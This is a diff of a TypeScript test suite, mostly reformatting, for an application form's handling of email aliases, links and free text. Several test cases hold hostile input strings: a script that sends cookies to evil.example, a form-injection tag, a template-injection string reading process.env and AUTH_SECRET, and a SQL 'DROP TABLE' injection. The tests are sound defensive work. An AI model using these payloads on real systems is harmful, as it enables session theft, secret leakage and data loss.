@@ -3,8 +3,8 @@ import type { Database } from "@/db/client";
 import { aliasCheck, answer, application } from "@/db/schema";
 import { startApplication } from "@/lib/application/commands/start-application";
 import { applicationForApplicant, readView } from "@/lib/application/queries/applicant";
-import { rowsOf } from "@/lib/list/answer";
 import type { Person } from "@/lib/kernel/actor";
+import { rowsOf } from "@/lib/list/answer";
 import { hostileCases } from "../data/hostile";
 import { testDatabase } from "../setup/database";
 import { answers, fill, forget, globex, letters, monday, save, someone, start, stored, submit, yes } from "./world";
@@ -94,13 +94,16 @@ describe("the contact alias's page", () => {
     expect(here.sort()).toEqual(hostileCases("input-email").map(({ id }) => id));
   });
 
-  it.each(Object.entries(refusedAddresses).flatMap(([id, typed]) => typed.map((address) => [id, address] as const)))("%s: %j is kept as typed, told to be wrong, and gets no letter", async (_id, address) => {
-    expect(await save(ada, reference, "security-alias", { ...alias, address })).toMatchObject({ outcome: "saved", reads: false });
-    expect(await db.select({ draft: answer.draft }).from(answer)).toMatchObject([{ draft: { address } }]);
-    expect((await said("security-alias")).faults).toHaveLength(1);
-    expect(await letters()).toEqual([]);
-    expect(await db.$count(aliasCheck)).toBe(0);
-  });
+  it.each(Object.entries(refusedAddresses).flatMap(([id, typed]) => typed.map((address) => [id, address] as const)))(
+    "%s: %j is kept as typed, told to be wrong, and gets no letter",
+    async (_id, address) => {
+      expect(await save(ada, reference, "security-alias", { ...alias, address })).toMatchObject({ outcome: "saved", reads: false });
+      expect(await db.select({ draft: answer.draft }).from(answer)).toMatchObject([{ draft: { address } }]);
+      expect((await said("security-alias")).faults).toHaveLength(1);
+      expect(await letters()).toEqual([]);
+      expect(await db.$count(aliasCheck)).toBe(0);
+    },
+  );
 
   it.each(Object.entries(flaggedAddresses))("%s: a person has to look at %j", async (_id, [address, mailed]) => {
     if (mailed.includes("xn--orp")) await memberAt("corp.example");
@@ -109,11 +112,14 @@ describe("the contact alias's page", () => {
     expect((await said("security-alias")).rows[0]).toBe(mailed);
   });
 
-  it.each(Object.entries(goodAddresses).flatMap(([id, pairs]) => pairs.map((pair) => [id, ...pair] as const)))("%s: %j is taken and written to as %s", async (_id, address, mailed) => {
-    await save(ada, reference, "security-alias", { ...alias, address });
-    expect(await said("security-alias")).toMatchObject({ faults: [], flags: [] });
-    expect(await letters()).toEqual([`alias-check to ${mailed}`]);
-  });
+  it.each(Object.entries(goodAddresses).flatMap(([id, pairs]) => pairs.map((pair) => [id, ...pair] as const)))(
+    "%s: %j is taken and written to as %s",
+    async (_id, address, mailed) => {
+      await save(ada, reference, "security-alias", { ...alias, address });
+      expect(await said("security-alias")).toMatchObject({ faults: [], flags: [] });
+      expect(await letters()).toEqual([`alias-check to ${mailed}`]);
+    },
+  );
 });
 
 async function memberAt(domain: string): Promise<void> {
@@ -135,10 +141,16 @@ const refusedLinks: Readonly<Record<string, readonly string[]>> = {
 };
 
 describe("the links of an answer", () => {
-  it.each(Object.entries(refusedLinks).flatMap(([id, typed]) => typed.map((link) => [id, link] as const)))("%s: %j is kept as typed and told to be wrong", async (_id, link) => {
-    expect(await save(ada, reference, "user-base", { text: "Users", "links.0.url": link })).toMatchObject({ outcome: "saved", reads: false });
-    expect(await db.select({ draft: answer.draft }).from(answer)).toMatchObject([{ draft: { "links.0.url": link } }]);
-  });
+  it.each(Object.entries(refusedLinks).flatMap(([id, typed]) => typed.map((link) => [id, link] as const)))(
+    "%s: %j is kept as typed and told to be wrong",
+    async (_id, link) => {
+      expect(await save(ada, reference, "user-base", { text: "Users", "links.0.url": link })).toMatchObject({
+        outcome: "saved",
+        reads: false,
+      });
+      expect(await db.select({ draft: answer.draft }).from(answer)).toMatchObject([{ draft: { "links.0.url": link } }]);
+    },
+  );
 
   it("HC-URL-017: 500 of them are more than the page takes", async () => {
     const many = Object.fromEntries(Array.from({ length: 390 }, (_, row) => [`links.${row}.url`, `https://acme.example/${row}`]));
@@ -159,7 +171,10 @@ describe("free text", () => {
   const typing = (text: string) => save(ada, reference, "user-base", { text, "links.0.url": "https://acme.example/users" });
 
   it("HC-TXT-001: more than a form holds is refused with the limit", async () => {
-    await expect(typing("a".repeat(1_048_576))).rejects.toMatchObject({ kind: "input", problems: [{ message: expect.stringContaining("256 KB") }] });
+    await expect(typing("a".repeat(1_048_576))).rejects.toMatchObject({
+      kind: "input",
+      problems: [{ message: expect.stringContaining("256 KB") }],
+    });
     expect(await typing("a".repeat(2001))).toMatchObject({ reads: false });
     expect((await said("user-base")).faults).toEqual(["Description must be 2,000 characters or less"]);
   });
@@ -169,12 +184,16 @@ describe("free text", () => {
     ["HC-TXT-003", JSON.parse('"a\\u0000b"') as string],
     ["a lone surrogate", "a\ud800b"],
   ])("%s: what no database keeps is refused beside its field", async (_id, text) => {
-    await expect(typing(text)).rejects.toMatchObject({ kind: "input", problems: [{ field: "text", message: expect.stringContaining("broken or hidden character") }] });
+    await expect(typing(text)).rejects.toMatchObject({
+      kind: "input",
+      problems: [{ field: "text", message: expect.stringContaining("broken or hidden character") }],
+    });
   });
 
   it.each([
     ["HC-TXT-005", '<script>fetch("//evil.example?c="+document.cookie)</script>'],
     ["HC-TXT-006", "</textarea><form action=//evil.example><input name=x>"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: nothing must be put in its place
     ["HC-TXT-008", '{{constructor.constructor("return process.env")()}} ${process.env.AUTH_SECRET} <%= 7*7 %>'],
     ["HC-TXT-013", "2026-11-16T09:00:00Z ERROR admin signed in"],
     ["HC-TXT-014", "'; DROP TABLE applications;-- and ' OR 1=1 --"],
@@ -194,7 +213,9 @@ describe("free text", () => {
     ["HC-TXT-012", "\u2800"],
   ])("%s: is no name of an organization", async (_id, name) => {
     const ben = await someone("ben@corp.example");
-    await expect(startApplication({ actor: ben, now: monday }, { list: "istio", eligibility: yes, organization: { name } })).rejects.toMatchObject({ kind: "input" });
+    await expect(
+      startApplication({ actor: ben, now: monday }, { list: "istio", eligibility: yes, organization: { name } }),
+    ).rejects.toMatchObject({ kind: "input" });
   });
 
   it("HC-MNB-005: an honest name in many scripts goes all the way", async () => {
@@ -207,8 +228,19 @@ describe("free text", () => {
 });
 
 it("HC-FRM-011: every field at its greatest length is taken", async () => {
-  const longest = { ...alias, watchedBy: "w".repeat(200), hours: "h".repeat(200), handling: "t".repeat(1000), reachesTeam: "r".repeat(1000) };
+  const longest = {
+    ...alias,
+    watchedBy: "w".repeat(200),
+    hours: "h".repeat(200),
+    handling: "t".repeat(1000),
+    reachesTeam: "r".repeat(1000),
+  };
   expect(await save(ada, reference, "security-alias", longest)).toMatchObject({ reads: true });
-  const links = Object.fromEntries(Array.from({ length: 10 }, (_, row) => [[`links.${row}.url`, `https://acme.example/${row}/${"u".repeat(2000)}`], [`links.${row}.shows`, "s".repeat(100)]]).flat());
+  const links = Object.fromEntries(
+    Array.from({ length: 10 }, (_, row) => [
+      [`links.${row}.url`, `https://acme.example/${row}/${"u".repeat(2000)}`],
+      [`links.${row}.shows`, "s".repeat(100)],
+    ]).flat(),
+  );
   expect(await save(ada, reference, "user-base", { text: "t".repeat(2000), ...links })).toMatchObject({ reads: true });
 });
